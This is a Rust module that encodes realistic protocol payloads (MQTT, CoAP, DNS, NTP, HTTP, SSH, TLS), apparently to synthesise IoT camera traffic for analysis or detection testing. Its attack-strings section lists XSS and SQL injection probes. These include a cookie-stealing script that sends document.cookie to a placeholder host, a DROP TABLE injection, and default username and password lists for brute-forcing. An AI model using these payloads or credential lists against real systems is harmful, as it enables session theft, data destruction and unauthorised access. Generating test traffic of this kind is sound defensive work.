//! Application-layer payloads, encoded as the real protocols do so Wireshark dissects them:
//! MQTT 3.1.1, CoAP, DNS, NTP, HTTP/1.1, the clear-text part of SSH, FTP, TLS records.

use std::net::Ipv4Addr;

use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

// ---- MQTT 3.1.1 ----

fn mqtt_packet(first: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![first];
    let mut len = body.len();
    loop {
        let mut byte = (len % 128) as u8;
        len /= 128;
        if len > 0 {
            byte |= 0x80;
        }
        out.push(byte);
        if len == 0 {
            break;
        }
    }
    out.extend_from_slice(body);
    out
}

fn push_str16(buf: &mut Vec<u8>, s: &[u8]) {
    buf.extend_from_slice(&(s.len() as u16).to_be_bytes());
    buf.extend_from_slice(s);
}

pub(crate) fn mqtt_connect(client_id: &str, keepalive_s: u16, user: &str, password: &str) -> Vec<u8> {
    let mut b = Vec::with_capacity(64);
    push_str16(&mut b, b"MQTT");
    b.push(4); // protocol level 3.1.1
    b.push(0xC2); // username, password, clean session
    b.extend_from_slice(&keepalive_s.to_be_bytes());
    push_str16(&mut b, client_id.as_bytes());
    push_str16(&mut b, user.as_bytes());
    push_str16(&mut b, password.as_bytes());
    mqtt_packet(0x10, &b)
}

pub(crate) const MQTT_CONNACK: [u8; 4] = [0x20, 2, 0, 0];
pub(crate) const MQTT_PINGREQ: [u8; 2] = [0xC0, 0];
pub(crate) const MQTT_PINGRESP: [u8; 2] = [0xD0, 0];

pub(crate) fn mqtt_subscribe(packet_id: u16, topic: &str) -> Vec<u8> {
    let mut b = packet_id.to_be_bytes().to_vec();
    push_str16(&mut b, topic.as_bytes());
    b.push(1); // QoS 1
    mqtt_packet(0x82, &b)
}

pub(crate) fn mqtt_suback(packet_id: u16) -> Vec<u8> {
    let [h, l] = packet_id.to_be_bytes();
    vec![0x90, 3, h, l, 1]
}

pub(crate) fn mqtt_publish_qos1(topic: &str, packet_id: u16, payload: &[u8]) -> Vec<u8> {
    let mut b = Vec::with_capacity(topic.len() + payload.len() + 4);
    push_str16(&mut b, topic.as_bytes());
    b.extend_from_slice(&packet_id.to_be_bytes());
    b.extend_from_slice(payload);
    mqtt_packet(0x32, &b)
}

pub(crate) fn mqtt_puback(packet_id: u16) -> Vec<u8> {
    let [h, l] = packet_id.to_be_bytes();
    vec![0x40, 2, h, l]
}

// ---- CoAP (RFC 7252) ----

const COAP_URI_PATH: u16 = 11;
const COAP_CONTENT_FORMAT: u16 = 12;

fn coap_option(buf: &mut Vec<u8>, delta: u16, value: &[u8]) {
    // Deltas and lengths below 13 fit the nibbles; 13..268 take one extension byte.
    let nibble = |v: usize| {
        if v < 13 {
            (v as u8, None)
        } else {
            (13, Some((v - 13) as u8))
        }
    };
    let (d, dx) = nibble(usize::from(delta));
    let (l, lx) = nibble(value.len());
    buf.push(d << 4 | l);
    buf.extend(dx);
    buf.extend(lx);
    buf.extend_from_slice(value);
}

/// Confirmable GET.
pub(crate) fn coap_get(message_id: u16, token: &[u8], path: &[&str]) -> Vec<u8> {
    let mut b = vec![0x40 | token.len() as u8, 0x01];
    b.extend_from_slice(&message_id.to_be_bytes());
    b.extend_from_slice(token);
    let mut last = 0;
    for seg in path {
        coap_option(&mut b, COAP_URI_PATH - last, seg.as_bytes());
        last = COAP_URI_PATH;
    }
    b
}

/// Piggybacked ACK carrying 2.05 Content in JSON.
pub(crate) fn coap_content(message_id: u16, token: &[u8], json: &[u8]) -> Vec<u8> {
    let mut b = vec![0x60 | token.len() as u8, 0x45];
    b.extend_from_slice(&message_id.to_be_bytes());
    b.extend_from_slice(token);
    coap_option(&mut b, COAP_CONTENT_FORMAT, &[50]); // application/json
    b.push(0xFF);
    b.extend_from_slice(json);
    b
}

// ---- DNS ----

pub(crate) const DNS_A: u16 = 1;
pub(crate) const DNS_AAAA: u16 = 28;

fn dns_header_question(id: u16, flags: u16, answers: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut b = Vec::with_capacity(64);
    b.extend_from_slice(&id.to_be_bytes());
    b.extend_from_slice(&flags.to_be_bytes());
    for count in [1, answers, 0, 0] {
        b.extend_from_slice(&count.to_be_bytes());
    }
    for label in name.split('.') {
        b.push(label.len() as u8);
        b.extend_from_slice(label.as_bytes());
    }
    b.push(0);
    b.extend_from_slice(&qtype.to_be_bytes());
    b.extend_from_slice(&1u16.to_be_bytes()); // class IN
    b
}

/// Recursive query.
pub(crate) fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    dns_header_question(id, 0x0100, 0, name, qtype)
}

/// Answer with `addrs` as A records (none for other query types).
pub(crate) fn dns_response(id: u16, name: &str, qtype: u16, addrs: &[Ipv4Addr], ttl: u32) -> Vec<u8> {
    let addrs = if qtype == DNS_A { addrs } else { &[] };
    let mut b = dns_header_question(id, 0x8180, addrs.len() as u16, name, qtype);
    for a in addrs {
        b.extend_from_slice(&[0xC0, 0x0C]); // name: pointer to the question
        b.extend_from_slice(&DNS_A.to_be_bytes());
        b.extend_from_slice(&1u16.to_be_bytes());
        b.extend_from_slice(&ttl.to_be_bytes());
        b.extend_from_slice(&4u16.to_be_bytes());
        b.extend_from_slice(&a.octets());
    }
    b
}

// ---- NTP v4 ----

fn ntp_timestamp(ns: i64) -> [u8; 8] {
    const UNIX_TO_NTP: i64 = 2_208_988_800;
    let secs = (ns.div_euclid(1_000_000_000) + UNIX_TO_NTP) as u32;
    let frac = ((ns.rem_euclid(1_000_000_000) as u128) << 32) / 1_000_000_000;
    let mut out = [0; 8];
    out[..4].copy_from_slice(&secs.to_be_bytes());
    out[4..].copy_from_slice(&(frac as u32).to_be_bytes());
    out
}

/// Client request (mode 3) sent at `tx_ns`.
pub(crate) fn ntp_request(tx_ns: i64) -> Vec<u8> {
    let mut b = vec![0; 48];
    b[0] = 0x23; // LI 0, version 4, mode 3
    b[2] = 6; // poll 64 s
    b[3] = 0xEC; // precision 2^-20
    b[40..48].copy_from_slice(&ntp_timestamp(tx_ns));
    b
}

/// Server reply (mode 4, stratum 2) to `request`.
pub(crate) fn ntp_reply(request: &[u8], rx_ns: i64, tx_ns: i64) -> Vec<u8> {
    let mut b = vec![0; 48];
    b[0] = 0x24;
    b[1] = 2;
    b[2] = 6;
    b[3] = 0xE9;
    b[4..8].copy_from_slice(&0x0000_0311u32.to_be_bytes()); // root delay
    b[8..12].copy_from_slice(&0x0000_0A2Cu32.to_be_bytes()); // root dispersion
    b[12..16].copy_from_slice(&[192, 0, 2, 123]); // reference id: upstream server
    b[16..24].copy_from_slice(&ntp_timestamp(rx_ns - 37_000_000_000));
    if let Some(origin) = request.get(40..48) {
        b[24..32].copy_from_slice(origin);
    }
    b[32..40].copy_from_slice(&ntp_timestamp(rx_ns));
    b[40..48].copy_from_slice(&ntp_timestamp(tx_ns));
    b
}

// ---- HTTP/1.1 ----

const DAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// IMF-fixdate of a time, e.g. `Thu, 01 Jan 2026 00:00:05 GMT`.
pub(crate) fn http_date(ns: i64) -> String {
    let secs = ns.div_euclid(1_000_000_000);
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400);
    // Civil date from days since 1970-01-01 (proleptic Gregorian, 400-year eras).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} GMT",
        DAYS[days.rem_euclid(7) as usize],
        day,
        MONTHS[(month - 1) as usize],
        year,
        sod / 3600,
        sod / 60 % 60,
        sod % 60
    )
}

pub(crate) fn http_request(method: &str, target: &str, host: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
    for (k, v) in headers {
        s.push_str(&format!("{k}: {v}\r\n"));
    }
    if !body.is_empty() {
        s.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    s.push_str("\r\n");
    let mut b = s.into_bytes();
    b.extend_from_slice(body);
    b
}

pub(crate) fn http_response(status: &str, date_ns: i64, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("HTTP/1.1 {status}\r\nDate: {}\r\n", http_date(date_ns));
    for (k, v) in headers {
        s.push_str(&format!("{k}: {v}\r\n"));
    }
    s.push_str(&format!("Content-Length: {}\r\n\r\n", body.len()));
    let mut b = s.into_bytes();
    b.extend_from_slice(body);
    b
}

/// A JPEG-looking body of `len` bytes: SOI + JFIF APP0, entropy-coded noise, EOI.
pub(crate) fn jpeg(rng: &mut ChaCha8Rng, len: usize) -> Vec<u8> {
    const HEAD: [u8; 20] = [
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01,
        0x00, 0x00,
    ];
    let len = len.max(HEAD.len() + 2);
    let mut b = Vec::with_capacity(len);
    b.extend_from_slice(&HEAD);
    b.resize(len - 2, 0);
    rng.fill(&mut b[HEAD.len()..]);
    b.extend_from_slice(&[0xFF, 0xD9]);
    b
}

/// An HTML page of about `len` bytes from the device's web UI, echoing `reflected` if given.
pub(crate) fn html_page(len: usize, title: &str, reflected: &str) -> Vec<u8> {
    let mut s = format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title>\
         <link rel=\"stylesheet\" href=\"/css/main.css\"></head>\n<body><div id=\"nav\">\
         <a href=\"/\">Live view</a> | <a href=\"/settings.cgi\">Settings</a> | <a href=\"/logout.cgi\">Log out</a></div>\n"
    );
    if !reflected.is_empty() {
        s.push_str(&format!("<p>Results for: {reflected}</p>\n"));
    }
    let row = "<tr><td class=\"k\">Stream</td><td class=\"v\">rtsp://camera/stream1 1920x1080 H.264 15 fps</td></tr>\n";
    s.push_str("<table>\n");
    while s.len() + row.len() + 24 < len {
        s.push_str(row);
    }
    s.push_str("</table></body></html>\n");
    s.into_bytes()
}

/// Percent-encodes a query value.
pub(crate) fn url_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

pub(crate) const BROWSER_AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
];

// ---- Attack strings ----

/// Reflected/stored XSS probes as scanners send them.
pub(crate) const XSS: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "'><iframe src=javascript:alert(1)>",
    "<body onload=alert(String.fromCharCode(88,83,83))>",
    "javascript:alert(document.domain)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "\"onmouseover=\"alert(1)",
    "<script>new Image().src='http://10.99.0.66/c?'+document.cookie</script>",
];

/// SQL injection probes in the style of sqlmap and manual testing.
pub(crate) const SQLI: [&str; 12] = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "1' AND SLEEP(5)-- -",
    "1 UNION SELECT NULL,username,password FROM users-- -",
    "1' ORDER BY 3-- -",
    "1) AND 5318=5318 AND (7171=7171",
    "' AND extractvalue(1,concat(0x7e,version()))-- -",
    "1'; DROP TABLE users-- -",
    "-1' UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables-- -",
    "1' AND 1=2 UNION SELECT 1,@@version,3-- -",
    "' OR 'x'='x'#",
];

pub(crate) const USERS: [&str; 8] = ["admin", "root", "user", "pi", "ubnt", "support", "guest", "camera"];

pub(crate) const PASSWORDS: [&str; 20] = [
    "123456",
    "password",
    "admin",
    "12345",
    "root",
    "qwerty",
    "letmein",
    "raspberry",
    "default",
    "1234",
    "admin123",
    "111111",
    "changeme",
    "toor",
    "12345678",
    "pass",
    "888888",
    "camera",
    "system",
    "abc123",
];

pub(crate) fn pick<'a>(rng: &mut ChaCha8Rng, list: &[&'a str]) -> &'a str {
    list.choose(rng).copied().unwrap_or_default()
}

// ---- SSH (RFC 4253) ----

pub(crate) const SSH_SERVER_BANNER: &[u8] = b"SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u3\r\n";
pub(crate) const SSH_CLIENT_BANNER: &[u8] = b"SSH-2.0-libssh_0.9.6\r\n";

/// Binary packet with random padding to a multiple of 8 (unencrypted phase).
fn ssh_packet(rng: &mut ChaCha8Rng, payload: &[u8]) -> Vec<u8> {
    let mut pad = 8 - (payload.len() + 5) % 8;
    if pad < 4 {
        pad += 8;
    }
    let mut b = Vec::with_capacity(5 + payload.len() + pad);
    b.extend_from_slice(&((1 + payload.len() + pad) as u32).to_be_bytes());
    b.push(pad as u8);
    b.extend_from_slice(payload);
    let start = b.len();
    b.resize(start + pad, 0);
    rng.fill(&mut b[start..]);
    b
}

/// SSH_MSG_KEXINIT with a realistic algorithm offer.
pub(crate) fn ssh_kexinit(rng: &mut ChaCha8Rng, server: bool) -> Vec<u8> {
    let kex = if server {
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,\
         diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,\
         diffie-hellman-group14-sha256"
    } else {
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,\
         diffie-hellman-group18-sha512,diffie-hellman-group16-sha512,diffie-hellman-group14-sha256,ext-info-c"
    };
    let hostkey = if server {
        "rsa-sha2-512,rsa-sha2-256,ssh-rsa,ecdsa-sha2-nistp256,ssh-ed25519"
    } else {
        "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256,ssh-rsa"
    };
    let cipher = "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,\
                  aes256-gcm@openssh.com";
    let mac = "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,\
               hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,hmac-sha2-256,hmac-sha2-512";
    let comp = "none,zlib@openssh.com";
    let mut p = vec![20u8];
    let mut cookie = [0u8; 16];
    rng.fill(&mut cookie);
    p.extend_from_slice(&cookie);
    for list in [kex, hostkey, cipher, cipher, mac, mac, comp, comp, "", ""] {
        p.extend_from_slice(&(list.len() as u32).to_be_bytes());
        p.extend_from_slice(list.as_bytes());
    }
    p.push(0); // first_kex_packet_follows
    p.extend_from_slice(&[0; 4]);
    ssh_packet(rng, &p)
}

/// SSH_MSG_KEX_ECDH_INIT with a curve25519 public key.
pub(crate) fn ssh_ecdh_init(rng: &mut ChaCha8Rng) -> Vec<u8> {
    let mut p = vec![30u8, 0, 0, 0, 32];
    let mut key = [0u8; 32];
    rng.fill(&mut key);
    p.extend_from_slice(&key);
    ssh_packet(rng, &p)
}

/// SSH_MSG_KEX_ECDH_REPLY (ed25519 host key, signature) followed by SSH_MSG_NEWKEYS.
pub(crate) fn ssh_ecdh_reply_newkeys(rng: &mut ChaCha8Rng) -> Vec<u8> {
    let mut p = vec![31u8];
    let field = |rng: &mut ChaCha8Rng, p: &mut Vec<u8>, prefix: &[u8], random: usize| {
        let mut v = prefix.to_vec();
        let start = v.len();
        v.resize(start + random, 0);
        rng.fill(&mut v[start..]);
        p.extend_from_slice(&(v.len() as u32).to_be_bytes());
        p.extend_from_slice(&v);
    };
    field(rng, &mut p, b"\0\0\0\x0bssh-ed25519\0\0\0\x20", 32);
    field(rng, &mut p, b"", 32);
    field(rng, &mut p, b"\0\0\0\x0bssh-ed25519\0\0\0\x40", 64);
    let mut b = ssh_packet(rng, &p);
    b.extend_from_slice(&ssh_newkeys(rng));
    b
}

pub(crate) fn ssh_newkeys(rng: &mut ChaCha8Rng) -> Vec<u8> {
    ssh_packet(rng, &[21])
}

/// An encrypted chacha20-poly1305 packet carrying `plain_len` payload bytes.
pub(crate) fn ssh_encrypted(rng: &mut ChaCha8Rng, plain_len: usize) -> Vec<u8> {
    let mut pad = 8 - (plain_len + 1) % 8;
    if pad < 4 {
        pad += 8;
    }
    let mut b = vec![0u8; 4 + 1 + plain_len + pad + 16];
    rng.fill(b.as_mut_slice());
    b
}

// ---- TLS 1.2/1.3 records (opaque contents) ----

/// One record of `len` random bytes with its 5-byte header.
pub(crate) fn tls_record(rng: &mut ChaCha8Rng, content_type: u8, len: usize) -> Vec<u8> {
    let mut b = Vec::with_capacity(len + 5);
    b.extend_from_slice(&[content_type, 0x03, 0x03]);
    b.extend_from_slice(&(len as u16).to_be_bytes());
    b.resize(len + 5, 0);
    rng.fill(&mut b[5..]);
    b
}

pub(crate) const TLS_HANDSHAKE: u8 = 22;
pub(crate) const TLS_APPLICATION: u8 = 23;
pub(crate) const TLS_CHANGE_CIPHER: u8 = 20;
